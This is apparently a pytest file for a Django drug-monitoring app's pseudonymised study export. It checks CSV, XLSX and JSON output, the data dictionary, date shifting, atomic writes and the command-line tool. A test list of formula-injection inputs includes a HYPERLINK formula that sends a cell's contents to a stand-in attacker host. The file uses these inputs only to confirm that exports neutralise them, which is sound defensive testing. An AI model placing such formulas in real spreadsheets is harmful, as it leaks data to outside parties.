"""The pseudonymised study exports (`export_study`, docs/data-dictionary.md): CSV, XLSX and JSON
files, the data dictionary, formula neutralisation, atomic writing and the command line."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
import json
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from advice.models import Advice
from cases import services
from cases.models import AdverseEvent, AuditEvent, DoseRegimen, Patient, Sample
from study import export as export_module
from study.columns import COLUMN_TYPES, Column, Table
from study.export import FORMATS, csv_cell, write_export
from study.pseudonym import Pseudonymiser
from study.tables import TABLES
from tests.factories import (
    DoseRegimenFactory,
    PatientFactory,
    SampleFactory,
    TreatmentFactory,
    local_datetime,
)

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
TABLE_NAMES = [table.name for table in TABLES]
INJECTIONS = ['=HYPERLINK("http://attacker.invalid/?d="&A1,"open")', "+1", "-2", "@SUM(A1:A9)"]
PARSE = {
    "integer": int,
    "decimal": Decimal,
    "date": datetime.date.fromisoformat,
    "datetime": datetime.datetime.fromisoformat,
    "boolean": {"true": True, "false": False}.__getitem__,
    "text": str,
}


@pytest.fixture
def cohort(case_at, staff, django_capture_on_commit_callbacks):
    """Two sorafenib patients with advice (one per sample and one per AE), and at site A a
    step-up to 800 mg/day."""
    with django_capture_on_commit_callbacks(execute=True):
        a = case_at("a")
        case_at("b")
    DoseRegimenFactory(
        actor=staff["nurse_a"],
        treatment=a["treatment"],
        effective_from=datetime.date(2024, 2, 12),
        daily_dose_mg=Decimal(800),
        administrations_per_day=2,
        reason=DoseRegimen.Reason.STEP_UP,
    )
    return a


def read_csv_export(path: Path) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(path) as archive:
        return {
            name.removesuffix(".csv"): list(
                csv.DictReader(io.TextIOWrapper(archive.open(name), encoding="utf-8", newline=""))
            )
            for name in archive.namelist()
        }


def parse_by_dictionary(files: dict[str, list[dict[str, str]]]) -> dict[str, list[dict]]:
    """Every table's cells parsed with the type the dictionary declares (empty = None)."""
    types = {(row["table"], row["column"]): row["type"] for row in files["dictionary"]}
    return {
        table: [
            {
                column: PARSE[types[table, column]](cell) if cell != "" else None
                for column, cell in row.items()
            }
            for row in rows
        ]
        for table, rows in files.items()
        if table != "dictionary"
    }


def test_csv_is_a_zip_of_one_file_per_table_and_the_dictionary(cohort, tmp_path):
    summary = write_export("csv", tmp_path / "study.zip", pseudonymiser=Pseudonymiser())
    with zipfile.ZipFile(summary.path) as archive:
        assert archive.namelist() == [f"{name}.csv" for name in TABLE_NAMES] + ["dictionary.csv"]
    files = read_csv_export(summary.path)
    for table in TABLES:
        assert len(files[table.name]) == summary.rows[table.name]
        with zipfile.ZipFile(summary.path) as archive:
            header = archive.read(f"{table.name}.csv").decode().splitlines()[0]
        assert header.split(",") == [column.name for column in table.columns]
    assert summary.rows == {
        "patients": 2,
        "treatments": 2,
        "doses": 3,
        "samples": 2,
        "advice": Advice.objects.count(),
        "adverse_events": 2,
    }


def test_csv_values_round_trip_with_the_dictionary_types(cohort, tmp_path):
    summary = write_export("csv", tmp_path / "study.zip", pseudonymiser=Pseudonymiser())
    files = read_csv_export(summary.path)
    tables = parse_by_dictionary(files)

    # Times are ISO 8601 in the installation's local time with its UTC offset.
    assert files["samples"][0]["drawn_at"] == local_datetime("2024-02-05 09:00").isoformat()
    patient = next(row for row in tables["patients"] if row["study_number"] == "TDM-A001")
    assert patient == {
        "study_number": "TDM-A001",
        "site": "SITEA",
        "sex": "F",
        "birth_year": 1960,
        "tumour": "hepatocellular carcinoma",
        "tumour_code": None,
    }
    sample = next(row for row in tables["samples"] if row["sample_id"] == cohort["sample"].pk)
    assert sample["drawn_at"] == local_datetime("2024-02-05 09:00")
    assert sample["last_dose_at"] == local_datetime("2024-02-04 21:00")
    assert sample["concentration"] == Decimal(2870)
    assert sample["unit"] == "ng/mL"
    assert sample["hours_after_dose"] == Decimal(12)
    assert sample["estimated_ctrough_ng_ml"] == Decimal(2870)
    assert sample["evaluable"] is True
    assert sample["below_lloq"] is False
    assert sample["method"] == "measured"

    doses = [row for row in tables["doses"] if row["treatment_id"] == cohort["treatment"].pk]
    assert [(d["effective_from"], d["effective_to"], d["daily_dose_mg"]) for d in doses] == [
        (datetime.date(2024, 1, 8), datetime.date(2024, 2, 12), Decimal(600)),
        (datetime.date(2024, 2, 12), None, Decimal(800)),
    ]
    assert [d["split_mg"] for d in doses] == ["400;200", "400;400"]
    assert [d["reason"] for d in doses] == ["start", "step_up"]

    event = next(
        row for row in tables["adverse_events"] if row["adverse_event_id"] == cohort["event"].pk
    )
    assert event["term"] == "Fatigue"
    assert event["meddra_code"] == "10016256"
    assert event["grade"] == 2
    assert event["onset"] == datetime.date(2024, 1, 20)
    assert event["related"] is True

    stored = Advice.objects.get(sample=cohort["sample"])
    advice = next(row for row in tables["advice"] if row["advice_id"] == stored.pk)
    assert advice["action"] == stored.action
    assert advice["state"] == "draft"
    assert advice["ctrough_ng_ml"] == stored.ctrough_ng_ml
    assert advice["computed_at"] == stored.created_at
    assert advice["checks"] == (";".join(stored.checks) or None)


def test_the_dictionary_describes_every_exported_column_once(cohort, tmp_path):
    summary = write_export("csv", tmp_path / "study.zip", pseudonymiser=Pseudonymiser())
    dictionary = read_csv_export(summary.path)["dictionary"]
    assert [(row["table"], row["column"]) for row in dictionary] == [
        (table.name, column.name) for table in TABLES for column in table.columns
    ]
    assert all(row["type"] in COLUMN_TYPES for row in dictionary)
    assert all(row["description"].strip() for row in dictionary)


def test_xlsx_has_one_sheet_per_table_with_typed_cells(cohort, tmp_path):
    summary = write_export("xlsx", tmp_path / "study.xlsx", pseudonymiser=Pseudonymiser())
    workbook = load_workbook(summary.path)
    assert workbook.sheetnames == [*TABLE_NAMES, "dictionary"]
    for table in TABLES:
        sheet = workbook[table.name]
        assert [cell.value for cell in sheet[1]] == [column.name for column in table.columns]
        assert sheet.max_row == summary.rows[table.name] + 1

    samples = workbook["samples"]
    header = [cell.value for cell in samples[1]]
    row = next(
        cells
        for cells in samples.iter_rows(min_row=2)
        if cells[header.index("sample_id")].value == cohort["sample"].pk
    )
    concentration = row[header.index("concentration_ng_ml")]
    assert concentration.data_type == "n"
    assert concentration.value == 2870
    drawn_at = row[header.index("drawn_at")]
    assert drawn_at.is_date
    # Excel has no time zones: the local wall-clock time as recorded.
    assert drawn_at.value == local_datetime("2024-02-05 09:00").replace(tzinfo=None)
    evaluable = row[header.index("evaluable")]
    assert evaluable.data_type == "b"
    assert evaluable.value is True
    assert row[header.index("daily_dose_mg")].value == 600
    assert row[header.index("status")].value == "resulted"

    dictionary = workbook["dictionary"]
    assert [cell.value for cell in dictionary[1]] == [
        "table",
        "column",
        "type",
        "unit",
        "description",
    ]
    assert dictionary.max_row == 1 + sum(len(table.columns) for table in TABLES)


@pytest.fixture
def injected(staff, site_a):
    for tumour in INJECTIONS:
        PatientFactory(actor=staff["nurse_a"], site=site_a, birth_year=1955, tumour=tumour)


def test_formula_like_text_is_neutralised_in_csv(injected, tmp_path):
    summary = write_export("csv", tmp_path / "study.zip", pseudonymiser=Pseudonymiser())
    patients = read_csv_export(summary.path)["patients"]
    assert sorted(row["tumour"] for row in patients) == sorted("'" + text for text in INJECTIONS)
    # Numbers are not text: the birth year stays a plain number.
    assert {row["birth_year"] for row in patients} == {"1955"}


def test_formula_like_text_is_neutralised_in_xlsx(injected, tmp_path):
    summary = write_export("xlsx", tmp_path / "study.xlsx", pseudonymiser=Pseudonymiser())
    workbook = load_workbook(summary.path)
    sheet = workbook["patients"]
    tumours = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in tumours) == sorted("'" + text for text in INJECTIONS)
    assert {cell.data_type for cell in tumours} == {"s"}
    assert all(
        cell.data_type != "f"
        for name in workbook.sheetnames
        for row in workbook[name].iter_rows()
        for cell in row
    )
    with zipfile.ZipFile(summary.path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)


AWARE = datetime.datetime(2024, 2, 5, 9, 0, tzinfo=datetime.timezone(datetime.timedelta(hours=1)))


@pytest.mark.parametrize(
    ("column_type", "value", "csv_text"),
    [
        ("decimal", Decimal("-2.50"), "-2.5"),
        ("decimal", Decimal("2870.0000"), "2870"),
        ("decimal", Decimal("0.0010"), "0.001"),
        ("integer", -3, "-3"),
        ("boolean", False, "false"),
        ("date", datetime.date(2024, 1, 2), "2024-01-02"),
        ("datetime", AWARE, "2024-02-05T09:00:00+01:00"),
        ("text", "-2", "'-2"),
        ("text", "+31 6 1234", "'+31 6 1234"),
        ("text", "=1+1", "'=1+1"),
        ("text", "@SUM(A1)", "'@SUM(A1)"),
        ("text", "\tcmd", "'\tcmd"),
        ("text", "a - b", "a - b"),
        # Dropped in XLSX only (tests/study/test_xlsx.py).
        ("text", "bell\x07", "bell\x07"),
        ("text", None, ""),
        ("decimal", None, ""),
    ],
)
def test_cells_are_written_by_their_declared_type(column_type, value, csv_text):
    assert csv_cell(Column("c", column_type, "a column"), value) == csv_text


def test_json_is_the_cohort_format(cohort, tmp_path):
    progress = []
    summary = write_export(
        "json",
        tmp_path / "study.json",
        pseudonymiser=Pseudonymiser(),
        progress=lambda done, total: progress.append((done, total)),
    )
    document = json.loads(summary.path.read_text(encoding="utf-8"))
    assert document["format"] == "etdm-cohort/1"
    assert sorted(p["study_number"] for p in document["patients"]) == ["TDM-A001", "TDM-B001"]
    assert summary.rows == {"patients": 2}
    assert progress[-1] == (2, 2)


@pytest.mark.parametrize("fmt", FORMATS)
def test_summary_hash_and_progress_describe_the_file_written(cohort, tmp_path, fmt):
    progress = []
    folder = tmp_path / "exports"
    folder.mkdir()
    path = folder / f"study.{fmt}"
    path.write_text("an older export")
    summary = write_export(
        fmt,
        path,
        pseudonymiser=Pseudonymiser(),
        progress=lambda done, total: progress.append((done, total)),
    )
    assert summary.format == fmt
    assert summary.path == path
    assert summary.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert [done for done, _ in progress] == sorted(done for done, _ in progress)
    total = sum(summary.rows.values())
    assert progress[-1] == (total, total)
    assert [p.name for p in folder.iterdir()] == [path.name]


def test_a_failed_export_leaves_the_previous_file_and_no_temporary_file(
    cohort, tmp_path, monkeypatch
):
    class BrokenTable(Table):
        def read(self, queryset, pseudonymiser):
            yield from ()
            raise RuntimeError("database went away")

    broken = BrokenTable(
        "broken", "fails", (Column("c", "text", "c"),), Patient.objects.all, "", "broken t"
    )
    monkeypatch.setattr(export_module, "TABLES", (*TABLES[:2], broken))
    # Every table read in Python, on PostgreSQL too, so that the third one fails midway.
    monkeypatch.setattr(export_module, "copies_in_sql", lambda: False)
    folder = tmp_path / "exports"
    folder.mkdir()
    path = folder / "study.zip"
    path.write_bytes(b"previous export")
    with pytest.raises(RuntimeError, match="database went away"):
        write_export("csv", path, pseudonymiser=Pseudonymiser())
    assert path.read_bytes() == b"previous export"
    assert [p.name for p in folder.iterdir()] == ["study.zip"]


def test_rows_added_while_the_export_runs_are_left_out(cohort, staff, tmp_path, monkeypatch):
    """A sample logged after the export started must not refer to a treatment that the
    treatments table, already written, does not hold."""
    late = {}

    def new_care_after_the_first_rows(done, total):
        if not late:
            nurse = staff["nurse_a"]
            late["treatment"] = TreatmentFactory(actor=nurse)
            late["sample"] = SampleFactory(actor=nurse, treatment=late["treatment"])

    # Told after the first row read in Python, or after the first table that PostgreSQL
    # copies: either way the new rows come mid-export.
    monkeypatch.setattr(export_module, "PROGRESS_EVERY", 1)
    summary = write_export(
        "csv",
        tmp_path / "study.zip",
        pseudonymiser=Pseudonymiser(),
        progress=new_care_after_the_first_rows,
    )
    files = read_csv_export(summary.path)
    assert str(late["treatment"].pk) not in {row["treatment_id"] for row in files["treatments"]}
    assert str(late["sample"].pk) not in {row["sample_id"] for row in files["samples"]}
    assert summary.rows["samples"] == 2
    assert {row["treatment_id"] for row in files["samples"]} <= {
        row["treatment_id"] for row in files["treatments"]
    }


def test_unknown_format_is_refused(tmp_path):
    with pytest.raises(ValueError, match="pdf"):
        write_export("pdf", tmp_path / "study.pdf", pseudonymiser=Pseudonymiser())


def test_with_a_key_dates_move_by_the_patient_offset_and_intervals_stay(cohort, tmp_path):
    pseudonymiser = Pseudonymiser(key=b"k" * 32)
    summary = write_export("csv", tmp_path / "study.zip", pseudonymiser=pseudonymiser)
    tables = parse_by_dictionary(read_csv_export(summary.path))
    pseudonym = pseudonymiser.study_number("TDM-A001")
    offset = datetime.timedelta(days=pseudonymiser.offset_days("TDM-A001"))
    assert offset
    assert {row["study_number"] for row in tables["patients"]} == {
        pseudonym,
        pseudonymiser.study_number("TDM-B001"),
    }
    sample = next(row for row in tables["samples"] if row["sample_id"] == cohort["sample"].pk)
    assert sample["study_number"] == pseudonym
    drawn_at = local_datetime("2024-02-05 09:00")
    # Whole days later with the time of day and UTC offset of the recorded moment.
    assert sample["drawn_at"].utcoffset() == drawn_at.utcoffset()
    assert sample["drawn_at"].replace(tzinfo=None) == drawn_at.replace(tzinfo=None) + offset
    assert sample["drawn_at"] - sample["last_dose_at"] == datetime.timedelta(hours=12)
    assert sample["hours_after_dose"] == Decimal(12)
    treatment = next(row for row in tables["treatments"] if row["study_number"] == pseudonym)
    assert treatment["start_date"] == datetime.date(2024, 1, 8) + offset


def test_samples_of_every_status_are_exported_without_their_free_text(cohort, staff, tmp_path):
    drawn = SampleFactory(
        actor=staff["nurse_a"],
        treatment=cohort["treatment"],
        drawn_at=local_datetime("2024-03-04 09:00"),
        last_dose_at=None,
        concentration=None,
        lab_accession="LAB-77215",
    )
    services.sample_cancel(actor=staff["nurse_a"], sample=drawn, reason="tube broke in transit")
    summary = write_export("csv", tmp_path / "study.zip", pseudonymiser=Pseudonymiser())
    samples = read_csv_export(summary.path)["samples"]
    cancelled = next(row for row in samples if row["sample_id"] == str(drawn.pk))
    assert cancelled["status"] == Sample.Status.CANCELLED
    assert cancelled["concentration"] == ""
    with zipfile.ZipFile(summary.path) as archive:
        text = b"".join(archive.read(name) for name in archive.namelist())
    assert b"LAB-77215" not in text
    assert b"tube broke" not in text


def test_adverse_events_entered_in_error_are_left_out(cohort, tmp_path):
    AdverseEvent.objects.filter(pk=cohort["event"].pk).update(entered_in_error=True)
    summary = write_export("csv", tmp_path / "study.zip", pseudonymiser=Pseudonymiser())
    events = read_csv_export(summary.path)["adverse_events"]
    assert str(cohort["event"].pk) not in {row["adverse_event_id"] for row in events}
    assert summary.rows["adverse_events"] == 1


# The command ------------------------------------------------------------------------------------


def test_command_writes_the_export_prints_a_summary_and_audits_it(cohort, tmp_path):
    out = io.StringIO()
    path = tmp_path / "study.xlsx"
    call_command("export_study", "--format", "xlsx", "--out", str(path), stdout=out)
    line = out.getvalue().strip()
    assert line.startswith(f"xlsx export written to {path} (patients 2, treatments 2,")
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    assert line.endswith(f"sha256 {digest}")
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.detail == f"export_study xlsx: study.xlsx, sha256 {digest}"


def test_command_with_a_key_file_pseudonymises(cohort, tmp_path):
    key_file = tmp_path / "export.key"
    key_file.write_text("0123456789abcdef" * 4 + "\n")
    path = tmp_path / "study.zip"
    call_command(
        "export_study",
        "--format",
        "csv",
        "--out",
        str(path),
        "--key-file",
        str(key_file),
        stdout=io.StringIO(),
    )
    pseudonymiser = Pseudonymiser.from_key_file(key_file)
    patients = read_csv_export(path)["patients"]
    assert {row["study_number"] for row in patients} == {
        pseudonymiser.study_number("TDM-A001"),
        pseudonymiser.study_number("TDM-B001"),
    }


def test_command_refuses_a_folder_as_output(tmp_path):
    with pytest.raises(CommandError) as raised:
        call_command("export_study", "--format", "csv", "--out", str(tmp_path))
    assert raised.value.returncode == 2
    assert str(raised.value).startswith("--out:")


@pytest.mark.parametrize(
    ("arguments", "option"),
    [
        (["--format", "pdf", "--out", "{tmp}/study.pdf"], "--format"),
        (["--format", "csv", "--out", "{tmp}/missing/study.zip"], "--out"),
        (
            ["--format", "csv", "--out", "{tmp}/study.zip", "--key-file", "{tmp}/short.key"],
            "--key-file",
        ),
    ],
)
def test_bad_option_is_one_line_naming_it_and_exit_code_2(tmp_path, arguments, option):
    (tmp_path / "short.key").write_text("too short")
    result = subprocess.run(  # noqa: S603 - fixed arguments, our own manage.py
        [
            sys.executable,
            "manage.py",
            "export_study",
            *(argument.format(tmp=tmp_path) for argument in arguments),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert f"{option}:" in lines[0]
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "study.zip").exists()
